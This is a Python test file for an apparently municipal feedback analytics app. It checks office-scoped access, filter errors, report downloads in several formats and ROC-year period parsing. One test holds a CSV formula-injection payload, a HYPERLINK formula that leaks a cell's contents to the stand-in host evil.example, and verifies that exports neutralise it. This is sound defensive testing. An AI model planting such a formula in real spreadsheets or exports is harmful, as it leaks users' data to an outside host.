"""The dashboard and report pages: who may read them, office scoping, filters, traceable figures,
downloads.
"""

import io
import re
import shutil
import subprocess

import pytest
from odf.opendocument import load
from odf.table import Table

from tests.conftest import login


def test_officers_may_not_read_the_analytics(client, org):
    login(client, "aa.officer")
    assert client.get("/analytics/").status_code == 403
    assert client.get("/analytics/reports").status_code == 403


@pytest.mark.parametrize("username", ["aa.supervisor", "aa.director", "tpe.monitor", "tpe.admin"])
def test_managers_read_the_dashboard(client, quarter_data, username):
    login(client, username)
    response = client.get("/analytics/?period=2025-Q2")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "114年第2季" in page and "2025-04-01 – 2025-06-30" in page  # what was counted, from when to when
    assert "/analytics/chart/trend.png?period=2025-Q2" in page


def test_a_director_of_office_aa_sees_aa_only(client, quarter_data):
    login(client, "aa.director")
    page = client.get("/analytics/?period=2025-Q2").get_data(as_text=True)
    assert quarter_data.a.name in page and quarter_data.b.name not in page
    assert client.get(f"/analytics/?period=2025-Q2&office={quarter_data.b.id}").status_code == 403
    assert (
        client.get(f"/analytics/?period=2025-Q2&counter={quarter_data.b.counters[0].id}").status_code == 403
    )
    assert client.get("/analytics/reports/BB/2025-Q2.ods").status_code == 403
    assert client.get("/analytics/reports/city/2025-Q2.ods").status_code == 403


def test_a_city_wide_monitor_sees_the_city_and_each_office(client, quarter_data):
    login(client, "tpe.monitor")
    page = client.get("/analytics/?period=2025-Q2").get_data(as_text=True)
    assert quarter_data.a.name in page and quarter_data.b.name in page
    assert client.get(f"/analytics/?period=2025-Q2&office={quarter_data.b.id}").status_code == 200
    assert (
        client.get(f"/analytics/?period=2025-Q2&office={quarter_data.c.id}").status_code == 403
    )  # other city


def test_bad_filters_get_a_clear_error(client, org):
    login(client, "tpe.monitor")
    assert client.get("/analytics/?period=2025-Q9").status_code == 400
    for far in ("9998-Q4", "9998", "1912-01", "1999-Q4", "2199-Q1"):  # beyond the calendars, or not yet begun
        response = client.get(f"/analytics/?period={far}")
        assert response.status_code == 400 and "2000" in response.get_data(as_text=True), far
    assert client.get("/analytics/?channel=fax").status_code == 400
    assert client.get("/analytics/?unit=abc").status_code == 400


def test_every_table_downloads_as_csv_and_charts_as_svg_and_pdf(client, quarter_data):
    login(client, "aa.director")
    csv = client.get("/analytics/table/satisfaction.csv?period=2025-Q2&channel=combined")
    assert csv.status_code == 200 and csv.mimetype == "text/csv"
    text = csv.get_data().decode("utf-8-sig")
    assert "2025-04-01 – 2025-06-30" in text
    assert client.get("/analytics/table/nope.csv").status_code == 404
    svg = client.get("/analytics/chart/trend.svg?period=2025-Q2")
    assert svg.status_code == 200 and svg.mimetype == "image/svg+xml"
    assert client.get("/analytics/chart/heatmap.pdf?period=2025-Q2").data.startswith(b"%PDF")


def test_the_quarterly_report_downloads_as_ods_with_its_tables(client, quarter_data):
    login(client, "aa.director")
    response = client.get("/analytics/reports/AA/2025-Q2.ods")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.oasis.opendocument.spreadsheet"
    doc = load(io.BytesIO(response.data))
    sheets = doc.spreadsheet.getElementsByType(Table)
    names = [s.getAttribute("name") for s in sheets]
    assert "各管道服務滿意度（滿意＋非常滿意）" in names and "結案案件類別與處理結果分析" in names
    assert "114年第2季" in str(sheets[0])


def _pdf_title(data: bytes, tmp_path) -> str:
    """The document title from the PDF's info dictionary, as a viewer reads it (its objects are compressed)."""
    if shutil.which("pdfinfo") is None:
        pytest.skip("pdfinfo (poppler-utils) is not installed")
    path = tmp_path / "title.pdf"
    path.write_bytes(data)
    info = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True, check=True).stdout
    return next(line.split(":", 1)[1].strip() for line in info.splitlines() if line.startswith("Title:"))


def test_the_quarterly_report_pdf_is_titled_with_the_roc_quarter_in_chinese(client, quarter_data, tmp_path):
    login(client, "tpe.monitor")
    response = client.get("/analytics/reports/city/2025-Q2.pdf")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")
    title = "臺北市 114年第2季 服務滿意度與意見回應報告"
    assert _pdf_title(response.data, tmp_path) == title
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext (poppler-utils) is not installed")
    path = tmp_path / "report.pdf"
    path.write_bytes(response.data)
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
    assert title in text and "如期結案率" in text and "不滿意原因" in text


def test_the_reports_page_lists_quarters_and_the_offices_a_reader_may_see(client, org):
    login(client, "aa.director")
    page = client.get("/analytics/reports").get_data(as_text=True)
    assert "/analytics/reports/AA/" in page and "/analytics/reports/BB/" not in page
    assert "/analytics/reports/city/" not in page


EVIL_REASON = '=HYPERLINK("http://evil.example/?leak="&B2,"詳細")'


def test_a_reason_text_written_as_a_formula_downloads_as_text_in_the_table_csv(client, quarter_data, org):
    """A reason option's wording comes from an admin's form: the CSV keeps it as text a spreadsheet will not run."""
    import csv

    import sqlalchemy as sa

    from feedback_app.extensions import db
    from feedback_app.models import Question

    for reasons in db.session.scalars(sa.select(Question).where(Question.role == "reason")):
        reasons.options = [
            {**o, "texts": {**o["texts"], "zh_TW": EVIL_REASON}} if o["code"] == "wait_long" else o
            for o in reasons.options
        ]
    db.session.commit()
    login(client, "aa.director")
    response = client.get("/analytics/table/reasons.csv?period=2025-Q2")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    reason_rows = [row for row in rows if len(row) == 4 and "HYPERLINK" in row[0]]
    assert [row[0] for row in reason_rows] == ["'" + EVIL_REASON]
    assert reason_rows[0][1].isdigit()  # the count beside it is still a number


def test_every_table_csv_escapes_text_that_starts_like_a_formula_and_leaves_negative_figures_as_numbers():
    import csv

    from feedback_app.services import reports, stats

    table = reports.Table("t", "=title", ["@header", "Change"])
    drop = stats.Growth(points=-3.2, relative=-0.05)
    table.rows.append([reports.Cell("-not a number", "-not a number"), reports.num(-12)])
    table.rows.append([reports.Cell("+886 2 1234", None), reports.points(drop)])
    table.rows.append([reports.Cell("\tindent", "\tindent"), reports.relative(drop)])
    rows = list(csv.reader(io.StringIO(reports.table_csv(table).decode("utf-8-sig"))))
    assert rows[0] == ["'=title"] and rows[1] == ["'@header", "Change"]
    assert [row[0] for row in rows[2:5]] == ["'-not a number", "'+886 2 1234", "'\tindent"]
    assert [row[1] for row in rows[2:5]] == ["-12", reports.points(drop).text, "-5.0%"]


def test_the_question_menu_names_each_question_by_its_wording(client, quarter_data):
    login(client, "tpe.director")
    page = client.get("/analytics/?period=2025-Q2").get_data(as_text=True)
    menu = page.split('name="question"')[1].split("</select>")[0]
    assert ">服務態度</option>" in menu and ">整體而言，您對今天的服務滿意嗎？</option>" in menu
    assert ">overall<" not in menu and ">attitude<" not in menu


@pytest.mark.parametrize(("typed", "key"), [
    ("114年第2季", "2025-Q2"), ("114年第二季", "2025-Q2"), ("114年5月", "2025-05"), ("民國114年", "2025"),
    ("2025-Q2", "2025-Q2"),
])
def test_the_period_can_be_written_with_the_roc_year_and_is_shown_so(client, quarter_data, typed, key):
    login(client, "tpe.director")
    page = client.get("/analytics/", query_string={"period": typed}).get_data(as_text=True)
    span = {
        "2025-Q2": "2025-04-01 – 2025-06-30", "2025-05": "2025-05-01 – 2025-05-31", "2025": "2025-01-01 – 2025-12-31",
    }
    assert span[key] in page
    shown = re.search(r'<input name="period" value="([^"]*)"', page).group(1)
    assert shown == {"2025-Q2": "114年第2季", "2025-05": "114年5月", "2025": "114年"}[key]


def test_a_period_it_cannot_read_comes_back_in_the_form_with_the_message(client, quarter_data):
    login(client, "tpe.director")
    response = client.get("/analytics/", query_string={"period": "114年第5季"})
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert re.search(r'<input name="period" value="114年第5季"', page)  # what was typed, to correct it
    assert 'role="alert" tabindex="-1" autofocus' in page and "115年第3季" in page  # a focused summary with an example
    assert '<form method="get" class="analytics-filters"' in page
